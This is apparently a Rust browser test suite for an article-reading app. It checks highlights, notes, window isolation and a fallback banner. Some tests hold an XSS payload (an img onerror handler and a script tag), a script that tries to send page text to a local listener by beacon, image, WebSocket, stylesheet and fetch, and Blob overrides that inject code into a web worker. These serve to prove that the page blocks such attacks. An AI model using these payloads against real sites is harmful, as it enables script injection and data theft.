//! What a reader can count on, in a real browser on the page as it is built for release.

use std::io::ErrorKind;
use std::net::TcpListener;
use std::thread;
use std::time::Duration;

use galley_e2e::{Look, Reader};

const DESK: Look = Look { width: 1440, height: 900, dark: false };

/// An article of our own, not the page's sample.
const ARTICLE: &str = "Ferry to stay in winter\n\n\
    The ferry to Holm will run all winter, the council decided on 3 May.\n\n\
    “We cannot leave 340 people without a doctor,” said Marta Lindqvist, who heads the council.\n\n\
    Lindqvist promised a new timetable.";

/// The page's sample.
const SAMPLE: &str = include_str!("../../../static/sample.txt");

/// Another article of our own.
const OTHER_ARTICLE: &str = "Mill to reopen\n\n\
    The mill in Holm will grind again next spring, once the mill pond is full.\n\n\
    “The wheel is sound,” said Jonas Ek, the miller.";

/// What is saved, is said to be.
const SAVED: &str = "return document.querySelector('[role=status]')?.innerText === 'Saved'";

#[test]
fn a_newcomer_sees_the_sample_already_read() {
    let reader = Reader::arrives(DESK);
    reader.sees("the sample's title", "return document.querySelector('h1')?.innerText");
    reader.sees("a marked quote", "return document.querySelector('main mark')");
    reader.sees(
        "a quote card",
        "return document.querySelector('[aria-label=\"Quotes and notes\"] .card-head')",
    );
    reader.sees("the names", "return document.querySelector('[aria-label=Names] button')");
    reader.leaves();
}

#[test]
fn a_pasted_article_is_read_marked_and_still_there_after_a_reload() {
    let reader = Reader::arrives(DESK);
    reader.sees("the sample", "return document.querySelector('main mark')");
    reader.pastes(ARTICLE);
    reader.sees(
        "the new title",
        "return document.querySelector('h1')?.innerText === 'Ferry to stay in winter'",
    );
    reader.sees("the marked quote", &marked("We cannot leave"));

    reader.drags_over("a new timetable");
    reader.clicks("Highlight");
    reader.sees("the highlight", &marked("a new timetable"));

    reader.drags_over("all winter");
    reader.clicks("Note");
    reader.types("ask the harbour master");
    reader.sees("that it is saved", SAVED);

    reader.reloads();
    reader.sees("the highlight again", &marked("a new timetable"));
    reader.sees(
        "the note again",
        "return [...document.querySelectorAll('textarea')].some(it => it.value === 'ask the harbour master')",
    );
    reader.sees("the quote again", &marked("We cannot leave"));
    reader.leaves();
}

#[test]
fn the_sample_pasted_by_hand_is_an_article_like_any_other() {
    let reader = Reader::arrives(DESK);
    let marks = "return document.querySelectorAll('main mark').length";
    reader.sees("the sample", "return document.querySelector('main mark')");
    let (shown, place) = (reader.asks(marks, &[]), reader.asks("return location.hash", &[]));
    reader.pastes(SAMPLE);
    reader.sees("another article", &format!("return location.hash !== {place}"));
    reader.sees("the same marks", &format!("{marks} === {shown}"));

    reader.drags_over("Not everyone was persuaded");
    reader.clicks("Highlight");
    reader.sees("that it is saved", SAVED);
    reader.reloads();
    reader.sees("the highlight again", &highlighted("Not everyone was persuaded"));
    reader.leaves();
}

#[test]
fn two_windows_on_two_articles_leave_each_other_alone() {
    let reader = Reader::arrives(DESK);
    let first = reader.window();
    reader.sees("the sample", "return document.querySelector('main mark')");
    reader.pastes(ARTICLE);
    reader.sees("the first article", &marked("We cannot leave"));
    // A window that finds nothing kept shows the sample.
    reader.sees("that it is saved", SAVED);
    let second = reader.opens_a_window(DESK);
    reader.sees("the shelf", "return document.querySelector('#opener')");
    reader.pastes(OTHER_ARTICLE);
    reader.sees("the second article", &marked("The wheel is sound"));

    let marks = [
        (&first, "a new timetable"),
        (&second, "next spring"),
        (&first, "all winter"),
        (&second, "mill pond"),
    ];
    for (window, words) in marks {
        reader.turns_to(window);
        reader.drags_over(words);
        reader.clicks("Highlight");
        reader.sees("the highlight", &highlighted(words));
        reader.sees("that it is saved", SAVED);
    }
    [&first, &second].into_iter().for_each(|window| {
        reader.turns_to(window);
        reader.reloads();
    });
    for (window, words) in marks {
        reader.turns_to(window);
        reader.sees("the highlight again", &highlighted(words));
    }
    reader.leaves();
}

#[test]
fn pasted_markup_is_only_ever_text() {
    let reader = Reader::arrives(DESK);
    reader.sees("the sample", "return document.querySelector('main mark')");
    reader.pastes_markup(
        "<h1>A title</h1><p>Some words <img src=http://127.0.0.1:9/ onerror='window.ran = true'> of it.</p>\
         <script>window.ran = true</script><p>Said <b>Ines Okafor</b>: “It holds.”</p>",
    );
    reader
        .sees("the article", "return document.querySelector('main')?.innerText.includes('of it.')");
    assert_eq!(
        reader.asks(
            "return [window.ran === undefined, document.querySelector('main img') === null]",
            &[]
        ),
        serde_json::json!([true, true])
    );
    assert!(reader.requests_elsewhere().is_empty(), "markup has fetched something");
}

#[test]
fn nothing_is_sent_even_if_the_page_is_made_to_try() {
    let stranger = Stranger::listening();
    let reader = Reader::arrives(DESK);
    reader.asks(TRY_TO_SEND, &[stranger.address().into()]);
    assert!(!stranger.was_called(), "the page has called somebody");
    assert!(reader.complaints().len() >= 4, "each attempt is refused by the policy");
}

#[test]
fn nothing_is_sent_even_if_the_worker_is_made_to_try() {
    let stranger = Stranger::listening();
    let reader =
        Reader::arrives_after(&SPOIL_THE_WORKER.replace("ADDRESS", &stranger.address()), DESK);
    assert_eq!(reader.asks("return window.heard", &[]), "refused");
    assert!(!stranger.was_called(), "the worker has called somebody");
    reader.sees("that the worker works all the same", "return document.querySelector('main mark')");
}

#[test]
fn with_a_damaged_model_the_rules_read_on_and_the_page_says_so() {
    let reader = Reader::arrives_after(DAMAGE_THE_MODEL, DESK);
    reader.sees("a marked quote", "return document.querySelector('main mark')");
    let banner = "return document.querySelector('.banner')?.innerText";
    let words = reader.sees("a banner", banner);
    assert_eq!(words, "Read by rules alone: the language model could not be loaded.");
    reader.leaves();
}

/// The body of a function that tells whether these words are drawn as one mark, or as several.
#[test]
fn the_engine_practises_on_an_article_once_for_each_build() {
    let reader = Reader::arrives_after(COUNT_WHAT_THE_WORKER_IS_ASKED, DESK);
    reader.sees("the sample", "return document.querySelector('main mark')");
    reader.pastes(&SAMPLE.repeat(3));
    reader.sees("that it has practised", "return localStorage['galley/setting/practised']");
    reader.sees("its readings", "return window.asked > 5");

    reader.reloads();
    reader.sees("the marks", "return document.querySelector('main mark')");
    thread::sleep(Duration::from_secs(1));
    assert_eq!(reader.asks("return window.asked", &[]), 1);
    reader.leaves();
}

fn marked(words: &str) -> String {
    format!(
        "return [...document.querySelectorAll('main mark')].map(it => it.textContent).join('').includes('{words}')"
    )
}

/// The body of a function that tells whether the reader has highlighted these words.
fn highlighted(words: &str) -> String {
    marked(words).replace("main mark", "main mark.m-mine")
}

/// Another server on this machine, which nobody should call.
struct Stranger(TcpListener);

impl Stranger {
    fn listening() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        listener.set_nonblocking(true).unwrap();
        Self(listener)
    }

    /// Its address without the scheme.
    fn address(&self) -> String {
        format!("//{}/", self.0.local_addr().unwrap())
    }

    fn was_called(&self) -> bool {
        !matches!(self.0.accept(), Err(error) if error.kind() == ErrorKind::WouldBlock)
    }
}

/// Every way out that a page has; done when the last of them has had its chance.
const TRY_TO_SEND: &str = "
    const to = 'http:' + arguments[0];
    navigator.sendBeacon(to, 'words');
    new Image().src = to;
    try { new WebSocket('ws:' + arguments[0]); } catch {}
    const style = document.createElement('link');
    style.rel = 'stylesheet';
    style.href = to;
    document.head.append(style);
    await fetch(to, { mode: 'no-cors' }).catch(() => {});
    await new Promise(done => setTimeout(done, 500));
";

const COUNT_WHAT_THE_WORKER_IS_ASKED: &str = "
    window.asked = 0;
    window.Worker = class extends Worker {
        postMessage(...what) {
            window.asked += 1;
            super.postMessage(...what);
        }
    };
";

/// Gives the worker half of the model.
const DAMAGE_THE_MODEL: &str = "
    const Whole = Blob;
    window.Blob = class extends Whole {
        constructor(parts, options) {
            const damage = `
                const whole = fetch;
                self.fetch = async (address, ...rest) => {
                    const answer = await whole(address, ...rest);
                    if (!String(address).includes('encoder.bin')) return answer;
                    const file = await answer.arrayBuffer();
                    return new Response(file.slice(0, file.byteLength / 2));
                };`;
            super([damage, ...parts], options);
        }
    };
";

/// Puts a try to send before the worker's own program, and hears from it how that went.
const SPOIL_THE_WORKER: &str = "
    const Whole = Blob;
    window.Blob = class extends Whole {
        constructor(parts, options) {
            const attempt = `fetch('http:ADDRESS', { mode: 'no-cors' })
                .then(() => 'sent', () => 'refused')
                .then(outcome => new BroadcastChannel('outcome').postMessage(outcome));`;
            super([attempt, ...parts], options);
        }
    };
    window.heard = new Promise(done => {
        new BroadcastChannel('outcome').onmessage = event => done(event.data);
    });
";
